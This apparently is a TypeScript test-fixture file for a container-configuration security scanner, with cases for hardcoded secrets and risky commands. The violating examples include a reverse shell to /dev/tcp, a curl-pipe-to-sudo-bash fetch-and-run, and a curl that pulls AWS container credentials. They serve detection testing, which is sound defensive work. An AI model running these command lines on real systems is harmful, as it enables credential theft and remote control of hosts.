import { container, type RuleCase, variable } from '../rule-case';

/** Tokens made up for these tests; the pieces are joined so that no scanner takes them for real ones. */
const ACCESS_KEY_ID = ['AKIA', 'IOSFODNN7EXAMPLE'].join('');
const RANDOM = 'q7Zt4LxV9bRk2MnW8cPd5HsJ3fGy6T';

const logs = (options: object) => (parts: { container: Record<string, { Options: object }> }) => {
  Object.assign(parts.container['LogConfiguration']?.Options ?? {}, options);
};

export const SECRET_CASES: readonly RuleCase[] = [
  {
    rule: 'secret-by-name',
    breaks: variable('DB_PASSWORD', 'hunter2'),
    nearly: 'the name speaks about a password and the value is a path',
    nearMiss: variable('DB_PASSWORD_FILE', '/run/secrets/db'),
  },
  {
    rule: 'secret-by-form',
    breaks: variable('DATABASE', 'postgres://app:hunter2@db.internal/app'),
    nearly: 'the address has a user and no password',
    nearMiss: variable('DATABASE', 'postgres://app@db.internal:5432/app'),
  },
  {
    rule: 'secret-by-randomness',
    breaks: variable('LICENSE', RANDOM),
    nearly: 'as long, but words',
    nearMiss: variable('LICENSE', 'Feature-Set-2-With-All-Modules'),
  },
  {
    rule: 'secret-resolved-by-template',
    breaks: variable('DB_PASSWORD', '{{resolve:secretsmanager:db:SecretString:password}}'),
    nearly: 'a plain parameter, which is no secret',
    nearMiss: variable('DB_HOST', '{{resolve:ssm:/db/host}}'),
  },
  {
    rule: 'secret-in-command',
    breaks: container('Command', ['server', '--password', 'hunter2']),
    nearly: 'the shell fills in a variable',
    nearMiss: container('Command', ['sh', '-c', 'server --password "$DB_PASSWORD" --token-file /run/token']),
  },
  {
    rule: 'secret-in-log-options',
    breaks: logs({ 'splunk-token': ACCESS_KEY_ID }),
    nearly: 'the option says where, not with what',
    nearMiss: logs({ 'splunk-token-url': 'https://splunk.internal' }),
  },
  {
    rule: 'environment-file',
    breaks: container('EnvironmentFiles', [{ Type: 's3', Value: 'arn:aws:s3:::settings/web.env' }]),
    nearly: 'the list is empty',
    nearMiss: container('EnvironmentFiles', []),
  },
  {
    rule: 'command-reads-credentials',
    breaks: container('Command', [
      'sh',
      '-c',
      'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI -o /tmp/c',
    ]),
    nearly: "the endpoint of the task's metadata",
    nearMiss: container('Command', ['sh', '-c', 'wget -qO /tmp/meta $ECS_CONTAINER_METADATA_URI_V4/task']),
  },
  {
    rule: 'command-runs-what-it-fetches',
    breaks: container('Command', ['sh', '-c', 'curl -fsSL https://get.example.com/x | sudo bash -s --']),
    nearly: 'what is fetched is filtered, not run',
    nearMiss: container('Command', [
      'sh',
      '-c',
      'curl -s localhost:8080/health | grep -q ok && sh /start.sh',
    ]),
  },
  {
    rule: 'command-opens-shell',
    breaks: container('EntryPoint', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1']),
    nearly: 'netcat asks whether a port is open',
    nearMiss: container('EntryPoint', ['sh', '-c', 'nc -z db 5432 && exec server']),
  },
];
